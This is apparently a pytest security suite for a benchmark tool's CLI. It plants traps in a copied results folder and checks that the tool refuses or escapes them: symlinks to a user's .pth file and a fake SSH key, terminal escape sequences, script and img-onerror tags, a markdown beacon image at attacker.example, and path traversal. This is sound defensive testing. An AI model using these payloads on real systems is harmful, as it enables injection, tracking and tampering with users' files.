"""A results folder from someone else is data, never a command. Each test builds one trap into a
copy of a genuine run's folder and runs a command over it, then requires: one line and a non-zero
exit where the command refuses, nothing outside the folder changed or created, and the run's own
files as they were."""
import base64
import hashlib
import json
import os
import shutil

import pandas as pd
import pytest
import torch

from bench.cli import main, torch_refusal
from bench.errors import UnusablePath
from bench.evaluations.tsne import TSNE_FILE
from bench.report import page
from bench.report.document import to_markdown
from bench.sections.blocks import Details, Paragraph, Table
from bench.store import results
from bench.terminal import printable
from tests.test_cli import SMOKE

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- not really\n"


@pytest.fixture(scope="module")
def genuine(smoke_results):
    """One complete smoke run of ccvae (trained once for the session: tests/conftest.py)."""
    return smoke_results


@pytest.fixture
def world(genuine, tmp_path):
    """(results folder, its run folder, a folder outside with files a trap points at)."""
    directory = tmp_path / "results"
    shutil.copytree(genuine, directory, symlinks=True)
    (run_dir,) = results.runs_dir(directory).iterdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "site.pth").write_text("# a user's file\n")
    (outside / "id_rsa").write_bytes(SECRET)
    return directory, run_dir, outside


def snapshot(*folders):
    """Every file under ``folders`` (links as links) and its contents' hash."""
    seen = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                seen[str(path)] = "link -> " + str(path.readlink())
            elif path.is_file():
                seen[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return seen


def refused(argv, capsys, naming):
    """``argv`` exits 2 with one line on stderr that names ``naming``."""
    code = main(argv)
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and naming in err[0] and "Traceback" not in err[0], err
    return err[0]


def test_a_run_log_linked_to_a_users_file_is_refused_before_anything_is_written(world, capsys):
    """The trap of the issue: run.log links to a .pth file in site-packages, which Python runs
    at its next start; appending the resume line there would run code."""
    directory, run_dir, outside = world
    (run_dir / "run.log").unlink()
    (run_dir / "run.log").symlink_to(outside / "site.pth")
    before = snapshot(outside, run_dir)
    refused([*SMOKE, "--results", str(directory)], capsys, "run.log is a symbolic link")
    assert snapshot(outside, run_dir) == before


@pytest.mark.parametrize("trap", ["lock file", "locks folder", "run folder", "runs folder"])
def test_a_link_where_bench_locks_or_writes_is_refused(world, capsys, trap):
    directory, run_dir, outside = world
    victim = outside / "site.pth"
    if trap == "lock file":
        (directory / "locks").mkdir(exist_ok=True)
        link = directory / "locks" / f"{run_dir.name}.lock"
        link.unlink(missing_ok=True)
        link.symlink_to(victim)
    elif trap == "locks folder":
        shutil.rmtree(directory / "locks", ignore_errors=True)
        (directory / "locks").symlink_to(outside, target_is_directory=True)
        link = directory / "locks"
    elif trap == "run folder":
        moved = outside / run_dir.name
        shutil.move(run_dir, moved)
        run_dir.symlink_to(moved, target_is_directory=True)
        link = run_dir
    else:
        moved = outside / "runs"
        shutil.move(results.runs_dir(directory), moved)
        results.runs_dir(directory).symlink_to(moved, target_is_directory=True)
        link = results.runs_dir(directory)
    before = snapshot(outside, directory)
    refused([*SMOKE, "--results", str(directory)], capsys, f"{link} is a symbolic link")
    if trap in ("run folder", "runs folder"):
        refused(["evaluate", "--results", str(directory)], capsys, "is a symbolic link")
    assert snapshot(outside, directory) == before
    assert victim.read_text() == "# a user's file\n"


def test_the_jobs_log_folder_as_a_link_is_refused(world, capsys):
    directory, run_dir, outside = world
    (directory / "jobs").mkdir(exist_ok=True)
    (directory / "jobs" / "local").symlink_to(outside, target_is_directory=True)
    before = snapshot(outside, directory)
    refused([*SMOKE, "--seeds", "0,1", "--jobs", "2", "--results", str(directory)], capsys,
            "is a symbolic link")
    assert snapshot(outside, directory) == before


def test_the_report_embeds_no_link_and_no_file_that_is_not_a_png(world, capsys):
    directory, run_dir, outside = world
    (run_dir / "curves.png").unlink()
    (run_dir / "curves.png").symlink_to(outside / "id_rsa")
    (run_dir / "swap_grid.png").write_bytes(SECRET)  # a regular file, but not a picture
    assert main(["report", "--results", str(directory)]) == 0
    page_html = (directory / "report.html").read_bytes()
    markdown = (directory / "report.md").read_text()
    for leaked in (SECRET, base64.b64encode(SECRET)[:40]):
        assert leaked not in page_html
    assert "curves.png left out" in markdown and "swap_grid.png left out" in markdown
    assert (outside / "id_rsa").read_bytes() == SECRET


def craft(run_dir, **config):
    """Rewrite the run's config.json and every table's run columns with ``config``'s values."""
    path = run_dir / results.CONFIG_FILE
    data = json.loads(path.read_text())
    for key, value in config.items():
        if key in ("z_dim",):
            data["method_config"][key] = value
        else:
            data[key] = value
    path.write_text(json.dumps(data))
    for table in run_dir.glob("*.csv"):
        frame = pd.read_csv(table)
        for key, value in config.items():
            if key in frame.columns:
                frame[key] = value
        frame.to_csv(table, index=False)


def test_a_crafted_preset_never_chooses_where_the_report_or_the_check_writes(world, capsys):
    directory, run_dir, outside = world
    escape = "../../outside/x"
    craft(run_dir, preset=escape)
    before = snapshot(outside)
    assert main(["report", "--results", str(directory)]) == 0
    assert "not a plain name" in (directory / "report.md").read_text()
    refused(["check", "--results", str(directory), "--update-baseline"], capsys, "not a plain name")
    assert snapshot(outside) == before
    assert not list(directory.parent.rglob("x-*")) and not list(directory.parent.rglob("*x.csv"))
    assert not (directory / "figures").exists() or not any(
        "outside" in str(p) for p in (directory / "figures").rglob("*"))


def test_a_config_asking_for_all_the_memory_is_refused_naming_its_file(world, capsys):
    directory, run_dir, outside = world
    craft(run_dir, z_dim=10**9)
    line = refused(["evaluate", "--results", str(directory), "--force"], capsys, "config.json")
    assert "z_dim" in line and "4096" in line  # the bound, in the error


def test_a_checkpoint_with_crafted_progress_fails_that_run_in_one_line(world, capsys):
    """The progress fields reach the console's resume line: a string there is refused as a
    corrupt checkpoint, not printed."""
    directory, run_dir, outside = world
    state = torch.load(run_dir / results.CHECKPOINT_FILE, weights_only=True)
    state["progress"]["epoch"] = "1)\n\x1b]0;pwned\x07import os"
    torch.save(state, run_dir / results.CHECKPOINT_FILE)
    (run_dir / results.STATUS_FILE).unlink()  # incomplete: the next run resumes it
    code = main([*SMOKE, "--results", str(directory)])
    captured = capsys.readouterr()
    assert code == 1 and "corrupt checkpoint" in captured.err
    assert "\x1b" not in captured.out + captured.err and "pwned" not in captured.out


def test_status_and_check_print_escape_sequences_from_run_files_escaped(world, capsys):
    directory, run_dir, outside = world
    status = {"state": "failed", "reason": "boom \x1b]0;title\x07\x1b[2J\u202egnp.exe"}
    (run_dir / results.STATUS_FILE).write_text(json.dumps(status))
    assert main(["status", "--results", str(directory)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\\x1b]0;title" in out


def test_text_from_run_files_cannot_open_html_or_break_a_fence_in_the_markdown():
    hostile = "<script>alert(1)</script> | ```\n# heading"
    text = to_markdown([Paragraph(hostile), Table(["setting"], [[hostile]]),
                        Details("settings", f"lr: {hostile}\n````")], base=results.REPO_ROOT)
    rendered, details = text.split("<details>")
    assert "<script>" not in rendered and "&lt;script&gt;" in rendered
    assert "\n# heading" not in rendered  # a line break in a value never starts a heading
    fence = details.split("<summary>settings</summary>\n\n")[1].split("\n")[0]
    assert set(fence) == {"`"} and len(fence) == 5  # longer than any run of backticks inside
    assert details.count(fence) == 2 and details.endswith(f"{fence}\n</details>\n")


def test_printable_escapes_what_a_terminal_would_obey():
    assert printable("plain text, ümlaut") == "plain text, ümlaut"
    assert printable("a\x1b[31mred\x07\r\n") == "a\\x1b[31mred\\x07\\r\\n"
    assert printable("\u202e") == "\\u202e"


@pytest.mark.parametrize("version, ok", [("2.10.0", True), ("2.14.1+cu130", True), ("3.0", True),
                                         ("2.9.1", False), ("2.5.0", False), ("junk", False),
                                         (None, False)])
def test_an_older_torch_is_refused_in_one_line(version, ok):
    line = torch_refusal(version)
    assert (line is None) == ok
    assert ok or "\n" not in line


def test_the_report_figures_folder_as_a_link_is_refused(world, capsys):
    directory, run_dir, outside = world
    (directory / page.FIGURES_DIR).symlink_to(outside, target_is_directory=True)
    before = snapshot(outside)
    refused(["report", "--results", str(directory)], capsys, "is a symbolic link")
    assert snapshot(outside) == before


@pytest.mark.parametrize("contents", ["run_id,method\nx,y\n", "\x00\x01\x02 not a table", ""])
def test_a_table_that_is_not_one_is_named_in_one_line_by_report_and_check(world, capsys, contents):
    directory, run_dir, outside = world
    (run_dir / results.METRICS_FILE).write_text(contents)
    for command in ("report", "check"):
        refused([command, "--results", str(directory)], capsys, "metrics.csv")


@pytest.mark.parametrize("mode", ["a", "w", "r+"])
def test_a_log_or_lock_is_opened_only_as_a_regular_file_of_its_own(tmp_path, mode):
    """A FIFO would block the writer forever, a link would send the text elsewhere."""
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "target").write_text("kept\n")
    (tmp_path / "link").symlink_to(tmp_path / "target")
    for name, message in (("fifo", "not a regular file"), ("link", "is a symbolic link")):
        with pytest.raises(UnusablePath, match=message):
            results.open_unlinked(tmp_path / name, mode)
    assert (tmp_path / "target").read_text() == "kept\n"
    with results.open_unlinked(tmp_path / "plain", mode) as out:
        out.write("written\n")
    assert (tmp_path / "plain").read_text() == "written\n"


def test_a_tsne_table_that_is_not_one_is_named_in_one_line_by_the_report(world, capsys):
    directory, run_dir, outside = world
    (run_dir / TSNE_FILE).write_text("code,x\nz_sample,1\n")
    refused(["report", "--results", str(directory)], capsys, "tsne.csv")


def test_lock_files_and_run_folder_names_reach_the_terminal_escaped(tmp_path):
    """A results folder from someone else: a lock's text and a run folder's name are printed by
    bench run and bench evaluate (issue 45, item 3)."""
    from bench.run.lock import RunLock
    from bench.run.reevaluate import reevaluate
    from bench.store.records import RunRecord, RunStatus
    escape = "\x1b]0;PWNED\x07\x1b[2J"
    run_dir = tmp_path / "runs" / f"x{escape}"
    run_dir.mkdir(parents=True)
    lock = RunLock(run_dir)
    lock.path.parent.mkdir(parents=True)
    lock.path.write_text(escape + "\n")
    assert "\x1b" not in lock.holder() and "\x07" not in lock.holder()
    record = RunRecord(run_dir.name, run_dir, {"external": {"model": "m.py:f"}}, {},
                       RunStatus("complete"))
    said: list[str] = []
    reevaluate([record], [], None, lambda name: None, False, lambda: None, say=said.append)
    assert said and not any("\x1b" in line or "\x07" in line for line in said), said


def report_text(directory):
    return "".join((directory / name).read_text(errors="replace")
                   for name in ("report.md", "report.html") if (directory / name).is_file())


@pytest.mark.parametrize("record", [results.ENV_FILE, results.CONFIG_FILE, results.EVALUATION_FILE,
                                    results.FIGURES_FILE])
def test_a_record_linked_to_a_file_outside_never_reaches_the_report(world, record, capsys):
    """Issue 45, item 1: env.json linked to someone's key file put the key into report.html and
    report.md. Run records are read without following a link: the record reads as absent."""
    directory, run_dir, outside = world
    (outside / "key.json").write_text(json.dumps({"api_key": SECRET.decode()}))
    (run_dir / record).unlink()
    (run_dir / record).symlink_to(outside / "key.json")
    main(["report", "--results", str(directory)])
    capsys.readouterr()
    assert "OPENSSH" not in report_text(directory)


def test_reads_of_run_files_are_bounded_and_never_block(tmp_path):
    """Issue 45, item 4: a FIFO (a reader would block), a device behind a link (never ends), a
    sparse file far over its kind's limit: each reads as absent, at once."""
    fifo = tmp_path / "status.json"
    os.mkfifo(fifo)
    assert results.read_run_file(fifo, results.JSON_BYTES_LIMIT) is None
    assert results.read_status(tmp_path) is None
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    assert results.read_json(tmp_path / "zero.json") == {}
    huge = tmp_path / "figures.json"
    with open(huge, "wb") as file:
        file.truncate(results.JSON_BYTES_LIMIT + 1)
    assert results.read_json(huge) == {}
    (tmp_path / "ok.json").write_text('{"state": "complete"}')
    assert results.read_json(tmp_path / "ok.json") == {"state": "complete"}
    (tmp_path / "list.json").write_text("[1, 2]")
    assert results.read_json(tmp_path / "list.json") == {}


def test_a_table_behind_a_link_or_too_large_is_named_in_one_line(world, capsys):
    directory, run_dir, outside = world
    (outside / "metrics.csv").write_text((run_dir / results.METRICS_FILE).read_text())
    (run_dir / results.METRICS_FILE).unlink()
    (run_dir / results.METRICS_FILE).symlink_to(outside / "metrics.csv")
    refused(["report", "--results", str(directory)], capsys, "not a table bench wrote")


def test_a_huge_png_is_not_embedded(world, capsys):
    """A sparse 'figure' of 3 GiB with a PNG header: the report would read it whole."""
    from bench.sections.blocks import embeddable
    directory, run_dir, _ = world
    curves = run_dir / results.CURVES_FIGURE
    header = curves.read_bytes()[:64]
    with open(curves, "wb") as file:
        file.write(header)
        file.truncate(3 * 2**30)
    assert not embeddable(curves, run_dir)


def test_a_slurm_record_that_is_not_an_object_is_named(tmp_path):
    from bench.errors import UnusableFile
    from bench.launch import slurm
    folder = slurm.record_dir(tmp_path)
    folder.mkdir(parents=True)
    (folder / "run-x.json").write_text("[1, 2, 3]")
    with pytest.raises(UnusableFile, match="run-x.json: .* is not a JSON object"):
        slurm.read_record(tmp_path, "run-x")
    assert slurm.read_record(tmp_path, "run-y") is None


def test_a_method_name_with_a_formula_draws_as_text(tmp_path):
    """Issue 45, item 6: `ccvae$\\foo{$` in a t-SNE title made `bench report` fail in
    matplotlib's mathtext parser. Text from run files is never parsed as a formula."""
    import numpy as np
    from bench import drawing
    figure, ax = drawing.plt.subplots()
    ax.set_title("ccvae$\\foo{$")
    ax.plot(np.arange(3))
    figure.savefig(tmp_path / "title.png")
    drawing.plt.close(figure)
    assert (tmp_path / "title.png").stat().st_size > 0


def test_markdown_text_from_run_files_makes_no_link_and_no_image(tmp_path):
    """Issue 45, item 2: a failed run's reason `![x](https://attacker.example/beacon.png)` rendered
    as a remote image in report.md, and a run folder named `x)<img ...>(` gave live tags in a
    figure's link."""
    import re
    from bench.sections.blocks import Figure
    beacon = "![x](https://attacker.example/beacon.png?who=victim) [click](https://a.example)"
    folder = tmp_path / "x)<img src=x onerror=alert(1)>("
    folder.mkdir()
    text = to_markdown([Paragraph(beacon), Figure(folder / "curves.png", "curves", 400)], tmp_path)
    assert not re.search(r"!\[[^\]]*\]\(", text.replace("![curves](", ""))
    assert not re.search(r"\]\(https?:", text)
    assert "<img" not in text
    assert "![curves](x%29%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E%28/curves.png)" in text


def _set(record, keys, value):
    """A trap: ``record``'s field at ``keys`` (none: the whole record) set to ``value``."""
    def trap(run_dir):
        path = run_dir / record
        if not keys:
            path.write_text(json.dumps(value))
            return
        data = json.loads(path.read_text())
        inner = data
        for key in keys[:-1]:
            inner = inner[key]
        inner[keys[-1]] = value
        path.write_text(json.dumps(data))
    return trap


def _tsne_label_of_text(run_dir):
    table = pd.read_csv(run_dir / TSNE_FILE)
    table["label"] = table["label"].astype(object)
    table.loc[0, "label"] = "seven"
    table.to_csv(run_dir / TSNE_FILE, index=False)


def _slurm_record_a_list(run_dir):
    from bench.launch import slurm
    folder = slurm.record_dir(run_dir.parent.parent)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{run_dir.name}.json").write_text("[1, 2]")


# Issue 45, item 5: the 17 records of a wrong type that ended in a traceback, each with the
# commands it broke, the file and the field the one line must name. (Item 4's tsne.classes of
# 10^8, which ran 99 s into a MemoryError, among them.)
WRONG_TYPES = {
    "status.json a string": (_set("status.json", [], "complete"), "status report check", "status.json", ""),
    "reason a number": (_set("status.json", [], {"state": "failed", "reason": 42}), "status report",
                        "status.json", "reason"),
    "train_seconds text": (_set("status.json", ["train_seconds"], "long"), "report", "status.json",
                           "train_seconds"),
    "peak_memory_mb text": (_set("status.json", ["peak_memory_mb"], "lots"), "report",
                            "status.json", "peak_memory_mb"),
    "method_config a list": (_set("config.json", ["method_config"], [1, 2]), "report check",
                             "config.json", "method_config"),
    "settings a list": (_set("config.json", ["settings"], [1, 2]), "report", "config.json",
                        "settings"),
    "method a list": (_set("config.json", ["method"], ["ccvae"]), "evaluate", "config.json",
                      "method"),
    "seed text": (_set("config.json", ["seed"], "zero"), "check-update", "config.json", "seed"),
    "libraries text": (_set("env.json", ["libraries"], "x"), "report check", "env.json",
                       "libraries"),
    "git text": (_set("env.json", ["git"], "x"), "report", "env.json", "git"),
    "probes text": (_set("evaluation.json", ["probes"], "x"), "report evaluate",
                    "evaluation.json", "probes"),
    "probes.specified a list": (_set("evaluation.json", ["probes", "specified"], [1]), "report",
                                "evaluation.json", "probes.specified"),
    "figures tsne text": (_set("figures.json", ["tsne"], "x"), "report", "figures.json", "tsne"),
    "tsne.classes text": (_set("figures.json", ["tsne", "classes"], "x"), "report",
                          "figures.json", "tsne.classes"),
    "tsne.classes 10^8": (_set("figures.json", ["tsne", "classes"], 10**8), "report",
                          "figures.json", "tsne.classes"),
    "tsne.csv label text": (_tsne_label_of_text, "report", "tsne.csv", "label"),
    "slurm record a list": (_slurm_record_a_list, "status", ".json", ""),
}
COMMANDS = {"status": ["status"], "report": ["report"], "check": ["check"],
            "check-update": ["check", "--update-baseline"], "evaluate": ["evaluate"]}


@pytest.fixture(scope="module")
def baseline(genuine, tmp_path_factory):
    """A baseline of the genuine run: `bench check` then checks it (no baseline: exit 2 at once)."""
    path = tmp_path_factory.mktemp("baseline") / "mnist-smoke.csv"
    assert main(["check", "--results", str(genuine), "--update-baseline", "--baseline",
                 str(path)]) == 0
    return path


@pytest.mark.parametrize("case", WRONG_TYPES)
def test_a_record_of_a_wrong_type_is_one_line_naming_its_file_and_field(world, baseline, capsys,
                                                                        tmp_path, case):
    """Every command over the record: exit 0, or one line and exit 2, never a traceback; those
    the type broke name the file and the field."""
    directory, run_dir, _ = world
    trap, broke, name, field = WRONG_TYPES[case]
    trap(run_dir)
    capsys.readouterr()
    for command, argv in COMMANDS.items():
        extra = ["--baseline", str(tmp_path / "new.csv" if command == "check-update" else baseline)] \
            if command.startswith("check") else []
        code = main([*argv, "--results", str(directory), *extra])
        err = capsys.readouterr().err.strip().splitlines()
        assert code in (0, 2), (command, code, err)
        if code == 2:
            assert len(err) == 1 and err[0].startswith("bench: error: "), (command, err)
        if command in broke.split():
            assert code == 2 and name in err[0] and f"{field} " in err[0].split(name, 1)[1] + " ", \
                (command, err)


@pytest.mark.parametrize("writer", ["lock", "run.log"])
def test_a_hard_linked_lock_or_run_log_is_refused_and_its_victim_kept(tmp_path, writer):
    """Issue 45, item 7: RunLock.acquire refused a symbolic link but truncated a file with other
    links (the victim then read the pid); the run log would have been appended to it. Checked on
    the opened descriptor, before anything is truncated or written."""
    from bench.run.live import ConsoleLog
    from bench.run.lock import RunLock
    victim = tmp_path / "victim"
    victim.write_text("a user's file\n")
    run_dir = tmp_path / "results" / "runs" / "ccvae-mnist-0"
    run_dir.mkdir(parents=True)
    if writer == "lock":
        lock = RunLock(run_dir)
        lock.path.parent.mkdir()
        os.link(victim, lock.path)
        with pytest.raises(UnusablePath, match="hard links"):
            lock.acquire()
    else:
        os.link(victim, run_dir / "run.log")
        with pytest.raises(UnusablePath, match="hard links"):
            with ConsoleLog(run_dir / "run.log"):
                print("a line")
    assert victim.read_text() == "a user's file\n"


def test_a_hard_linked_lock_is_refused_by_evaluate_in_one_line(world, capsys):
    directory, run_dir, outside = world
    victim = outside / "site.pth"
    lock = directory / "locks" / f"{run_dir.name}.lock"
    lock.unlink(missing_ok=True)
    os.link(victim, lock)
    refused(["evaluate", "--results", str(directory)], capsys, "hard links")
    assert victim.read_text() == "# a user's file\n"


def test_a_received_config_of_10_to_the_12_epochs_is_refused_with_its_bound(world, capsys):
    """Issue 45, item 8: probe_epochs and epochs of 10^12 were accepted."""
    directory, run_dir, _ = world
    for section, name in (("settings", "probe_epochs"), ("method_config", "epochs")):
        _set("config.json", [section, name], 10**12)(run_dir)
        line = refused(["evaluate", "--results", str(directory), "--force"], capsys, "config.json")
        assert f"invalid {name} 1000000000000 (from 1 to 10000)" in line, line
        _set("config.json", [section, name], 1)(run_dir)


def test_method_names_and_labels_with_formulas_draw_in_every_figure(tmp_path):
    """Issue 45, item 6: a method named `ccvae$\\foo{$` failed `bench report` in matplotlib's
    mathtext parser (t-SNE titles). Every figure that shows run text: t-SNE panels, their legend
    and title, the probe-sensitivity lines, the training curves."""
    import numpy as np
    from bench import drawing
    name = "ccvae$\\foo{$ \x1b]0;PWNED\x07"
    panel = drawing.Panel(f"{name}: z", np.zeros((3, 2)), np.arange(3))
    drawing.plot_embeddings([[panel]], tmp_path / "tsne.png", f"t-SNE: {name}", 3, "$\\x{")
    means = pd.DataFrame({"method": [name] * 3, "probe": ["s"] * 3,
                          "capacity": list(drawing.PROBE_TICKS), "mean": [50.0, 60.0, 70.0]})
    drawing.plot_probe_sensitivity(means, tmp_path / "sensitivity.png", f"probes: {name}")
    losses = pd.DataFrame({"epoch": [1, 1], "iteration": [1, 2], "$\\loss{": [1.0, 0.5]})
    drawing.plot_curves(losses, tmp_path / "curves.png", name)
    assert all((tmp_path / f).stat().st_size > 0
               for f in ("tsne.png", "sensitivity.png", "curves.png"))


def test_a_report_over_a_method_named_with_a_formula_is_written(world, capsys):
    directory, run_dir, _ = world
    craft(run_dir, method="ccvae$\\foo{$")
    assert main(["report", "--results", str(directory)]) == 0
    assert "ccvae$\\foo{$" in (directory / "report.md").read_text()


ESCAPE = "\x1b]0;PWNED\x07"


def test_status_prints_a_folder_name_and_reason_escaped(world, capsys):
    """Issue 45, item 3: a run folder's name and its failure's reason reach the terminal."""
    directory, run_dir, _ = world
    hostile = run_dir.parent / f"x{ESCAPE}"
    run_dir.rename(hostile)
    (hostile / results.STATUS_FILE).write_text(json.dumps({"state": "failed", "reason": ESCAPE}))
    assert main(["status", "--results", str(directory)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;PWNED\\x07" in out


def test_evaluate_prints_a_folder_name_escaped(world, capsys):
    directory, run_dir, _ = world
    run_dir.rename(run_dir.parent / f"x{ESCAPE}")
    assert main(["evaluate", "--results", str(directory), "--evaluations", "probes"]) == 0
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\\x1b]0;PWNED" in captured.out


def test_the_runner_prints_a_lock_holder_escaped(world, capsys):
    """A lock held (here by this process, through another open file) whose file says anything:
    `bench run` says the run is busy, with the lock's text escaped."""
    import fcntl
    directory, run_dir, _ = world
    (run_dir / results.STATUS_FILE).unlink()  # not complete: the run would resume it
    lock = directory / "locks" / f"{run_dir.name}.lock"
    lock.write_text(ESCAPE)
    with open(lock) as held:
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
        main([*SMOKE, "--results", str(directory)])
    captured = capsys.readouterr()
    assert "busy" in captured.out + captured.err and "\\x1b]0;PWNED" in captured.out + captured.err
    assert "\x1b" not in captured.out + captured.err
